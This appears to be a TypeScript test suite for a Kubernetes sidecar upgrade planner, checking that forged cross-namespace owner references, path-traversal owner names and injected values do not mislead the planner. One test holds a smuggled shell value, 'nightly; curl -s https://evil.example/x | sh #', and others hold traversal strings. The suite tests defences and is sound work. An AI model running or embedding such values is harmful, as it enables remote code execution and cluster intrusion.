import { askInjector } from '../../../lib/engine/plan/ask-injector';
import { nameOf } from '../../../lib/engine/plan/plan';
import { readSnapshot } from '../../../lib/engine/snapshot/read-snapshot';
import type { OwnerReference } from '../../../lib/engine/cluster/objects';
import {
  argoRollout,
  daemonSet,
  deployment,
  IMAGE,
  meshNamespace,
  OLD_IMAGE,
  owner,
  ownerOf,
  pod,
  replicaSet,
  statefulSet,
  type ClusterObject,
} from '../cluster-builder';
import { injectionOf } from '../injection-of';
import { FakeCluster } from '../fake-cluster';
import { refusal } from '../fake-api-server';
import { planOf, SHOP } from '../plan-of-cluster';

const EVIL = meshNamespace('evil');
const CURRENT = {
  proxies: [IMAGE],
  spec: { selector: { matchLabels: { app: 'cart' } } },
  template: { labels: { app: 'cart' } },
};

/** Workloads of each kind that are up to date, in the namespace shop. */
const VICTIMS: readonly (readonly [string, readonly ClusterObject[]])[] = [
  ['Deployment', deployment('cart', CURRENT)],
  ['StatefulSet', statefulSet('cart', CURRENT)],
  ['DaemonSet', daemonSet('cart', CURRENT)],
  ['Rollout', argoRollout('cart', CURRENT)],
  ['Job', owner('batch/v1', 'Job', 'cart', CURRENT)],
  ['ReplicaSet', replicaSet('cart', CURRENT)],
  ['ReplicationController', owner('v1', 'ReplicationController', 'cart', { ...CURRENT, spec: {} })],
];

function decisions(plan: Awaited<ReturnType<typeof planOf>>) {
  return plan.map((workload) => `${nameOf(workload)} ${workload.decision} ${workload.reason}`);
}

describe('a pod of another namespace that names an owner', () => {
  const outdated = (controller: OwnerReference, annotations = {}) =>
    pod('intruder', { namespace: 'evil', owner: controller, labels: { app: 'cart' }, proxy: OLD_IMAGE, annotations });

  test.each(VICTIMS)('is not one of its pods: %s', async (kind, objects) => {
    const [victim] = objects as [ClusterObject];
    const alone = await planOf([SHOP, ...objects]);
    const plan = await planOf([SHOP, EVIL, ...objects, outdated(ownerOf(victim))]);
    expect(plan.filter(({ namespace }) => namespace === 'shop')).toEqual(alone);
    expect(decisions(alone)).toEqual([`${kind} shop/cart current UpToDate`]);
    expect(decisions(plan)).toEqual(['Pod evil/intruder warn UnknownController', ...decisions(alone)]);
    expect(plan[0]?.message).toContain(`; its owner reference names ${kind} cart, which does not own it`);
    expect(JSON.stringify(plan[0])).not.toContain('shop');
  });

  test.each(VICTIMS)('does not cause it to be left alone by its annotations: %s', async (kind, objects) => {
    const [victim] = objects as [ClusterObject];
    const custom = outdated(ownerOf(victim), { 'sidecar.istio.io/proxyImage': 'example/proxy' });
    expect(decisions(await planOf([SHOP, EVIL, ...objects, custom]))).toEqual([
      'Pod evil/intruder skip CustomProxyImage',
      `${kind} shop/cart current UpToDate`,
    ]);
  });

  test('is not one of its pods, even if a reference of a kind that is not read has its uid', async () => {
    const reference = {
      ...ownerOf((VICTIMS[0]?.[1] as ClusterObject[])[0] as ClusterObject),
      apiVersion: 'x.example/v1',
    };
    const plan = await planOf([SHOP, EVIL, ...deployment('cart', CURRENT), outdated(reference)]);
    expect(decisions(plan)).toEqual([
      'Deployment.x.example evil/cart warn UnknownController',
      'Deployment shop/cart current UpToDate',
    ]);
  });

  test('has an answer of the injector of its own', async () => {
    const reference = { ...ownerOf(deployment('cart', CURRENT)[0] as ClusterObject), apiVersion: 'x.example/v1' };
    const cluster = await FakeCluster.start([SHOP, EVIL, ...deployment('cart', CURRENT), outdated(reference)]);
    try {
      const api = await cluster.server.api();
      const snapshot = await readSnapshot(api);
      expect((await askInjector(api, snapshot, () => true, await injectionOf(api))).size).toBe(2);
    } finally {
      await cluster.close();
    }
  });
});

describe('a ReplicaSet of another namespace that names an owner', () => {
  test.each(['apps/v1', 'apps/v9'])('is not one of its ReplicaSets: %s', async (apiVersion) => {
    const objects = deployment('cart', { proxies: [IMAGE, OLD_IMAGE] });
    const [cart] = objects as [ClusterObject];
    const reference = { ...ownerOf(cart), apiVersion };
    const [set] = replicaSet('cart-evil', { namespace: 'evil', owner: reference, revision: 999_999, proxies: [] });
    const cluster = await FakeCluster.start([SHOP, EVIL, ...objects, set as ClusterObject]);
    try {
      const { workloads } = await readSnapshot(await cluster.server.api());
      expect(workloads.map((one) => one.type === 'rollable' && one.replicaSets.map(({ name }) => name))).toEqual([
        ['cart-1'],
      ]);
    } finally {
      await cluster.close();
    }
  });

  test.each(['apps/v1', 'apps/v9'])('keeps its pods: %s', async (apiVersion) => {
    const objects = deployment('cart', CURRENT);
    const reference = { ...ownerOf(objects[0] as ClusterObject), apiVersion };
    const sets = replicaSet('cart-evil', { namespace: 'evil', owner: reference });
    expect(decisions(await planOf([SHOP, EVIL, ...objects, ...sets]))).toEqual([
      'ReplicaSet evil/cart-evil warn UnknownController',
      'Deployment shop/cart current UpToDate',
    ]);
  });
});

describe('an owner reference within the namespace counts only', () => {
  const [cart, ...rest] = statefulSet('cart', CURRENT) as [ClusterObject, ...ClusterObject[]];
  const planWith = (reference: Partial<OwnerReference>, app = 'cart') =>
    planOf([
      SHOP,
      ...[cart, ...rest],
      pod('other', { owner: { ...ownerOf(cart), ...reference }, labels: { app }, proxy: OLD_IMAGE }),
    ]);

  test.each([
    ['with the name of that uid', { name: 'basket' }],
    ['with the kind of that uid', { kind: 'DaemonSet' }],
    ['with a version that the garbage collector knows', { apiVersion: 'apps/v9', uid: 'uid-of-none' }],
  ])('%s', async (_, reference) => {
    expect(decisions(await planWith(reference))).toEqual([
      'Pod shop/other warn UnknownController',
      'StatefulSet shop/cart current UpToDate',
    ]);
  });

  test('where the selector matches the pod', async () => {
    expect(decisions(await planWith({}, 'basket'))).toEqual([
      'Pod shop/other warn UnknownController',
      'StatefulSet shop/cart current UpToDate',
    ]);
    expect(decisions(await planWith({}))).toEqual(['StatefulSet shop/cart restart OutOfDate']);
  });

  test.each(VICTIMS.filter(([kind]) => !['Deployment', 'Rollout', 'ReplicationController'].includes(kind)))(
    'where the selector of the kind matches the pod: %s',
    async (kind, objects) => {
      const stray = pod('stray', {
        owner: ownerOf(objects[0] as ClusterObject),
        labels: { app: 'x' },
        proxy: OLD_IMAGE,
      });
      expect(decisions(await planOf([SHOP, ...objects, stray]))).toEqual(
        [`${kind} shop/cart current UpToDate`, 'Pod shop/stray warn UnknownController'].sort(),
      );
    },
  );

  test('where the labels of a ReplicationController match the pod', async () => {
    const objects = owner('v1', 'ReplicationController', 'cart', {
      ...CURRENT,
      spec: { selector: { app: 'cart' } as object },
    });
    const stray = pod('stray', { owner: ownerOf(objects[0] as ClusterObject), labels: { app: 'x' }, proxy: OLD_IMAGE });
    expect(decisions(await planOf([SHOP, ...objects, stray]))).toEqual([
      'Pod shop/stray warn UnknownController',
      'ReplicationController shop/cart current UpToDate',
    ]);
  });

  test('while it is there: a pod goes with an owner that was deleted since', async () => {
    expect(decisions(await planWith({ name: 'deleted', uid: 'uid-of-none' }))).toEqual([
      'StatefulSet shop/cart current UpToDate',
    ]);
  });
});

describe('a kind that is not served', () => {
  const notServed = {
    intercept: ({ path }: { readonly path: string }) =>
      path.endsWith('/rollouts')
        ? refusal(404, 'NotFound', 'the server could not find the requested resource')
        : undefined,
  };

  test('owns nothing: its pods belong to a controller that is not known, and the rest is planned', async () => {
    const reference = {
      apiVersion: 'argoproj.io/v1alpha1',
      kind: 'Rollout',
      name: 'ghost',
      uid: 'uid-ghost',
      controller: true,
    };
    const objects = [SHOP, ...deployment('cart'), pod('ghost-0', { owner: reference, proxy: OLD_IMAGE })];
    expect(decisions(await planOf(objects, notServed))).toEqual([
      'Deployment shop/cart restart OutOfDate',
      'Rollout shop/ghost warn UnknownController',
    ]);
  });

  test('leaves its ReplicaSets to a controller that is not known', async () => {
    const objects = [SHOP, ...deployment('cart'), ...argoRollout('ghost')];
    const plan = await planOf(objects, notServed);
    expect(decisions(plan)).toEqual([
      'Deployment shop/cart restart OutOfDate',
      'ReplicaSet shop/ghost-1 warn UnknownController',
    ]);
    expect(plan[1]?.message).toContain('the engine does not know how Rollout replaces its pods');
  });
});

describe('an owner name that leads elsewhere', () => {
  const NAMES = ['../../../../../api/v1/namespaces/kube-system/configmaps/x', '%2e%2e', 'x?watch=true', '$`'];
  const requestsFor = async (objects: readonly ClusterObject[]) => {
    const cluster = await FakeCluster.start([SHOP, ...objects]);
    try {
      const { workloads } = await readSnapshot(await cluster.server.api());
      const single = cluster.server.requests.filter(({ query }) => !query.has('limit'));
      return { kinds: workloads.map(({ kind }) => kind), paths: single.map(({ path }) => path) };
    } finally {
      await cluster.close();
    }
  };

  test.each(NAMES)('is not requested: %s', async (name) => {
    const reference = { apiVersion: 'v1', kind: 'ReplicationController', name, uid: 'uid-x', controller: true };
    expect(await requestsFor([pod('stray', { owner: reference })])).toEqual({
      kinds: ['Pod'],
      paths: ['/api/v1/namespaces/shop/pods/stray'],
    });
  });

  test.each(NAMES)('is not requested for the template of a Rollout: %s', async (name) => {
    const workloadRef = { apiVersion: 'apps/v1', kind: 'Deployment', name };
    const objects = argoRollout('cart', { spec: { workloadRef, template: undefined } });
    expect(await requestsFor(objects)).toEqual({
      kinds: ['Rollout'],
      paths: ['/api/v1/namespaces/shop/pods/cart-1-0'],
    });
  });
});

test('a CronJob of a name that no object can have is in no command', async () => {
  const name = 'nightly; curl -s https://evil.example/x | sh #';
  const cronJob = { apiVersion: 'batch/v1', kind: 'CronJob', name, uid: 'uid-cron', controller: true };
  const [workload] = await planOf([SHOP, ...owner('batch/v1', 'Job', 'night', { owner: cronJob })]);
  expect(workload).toMatchObject({ decision: 'warn', reason: 'JobOwned', remedy: '' });
});
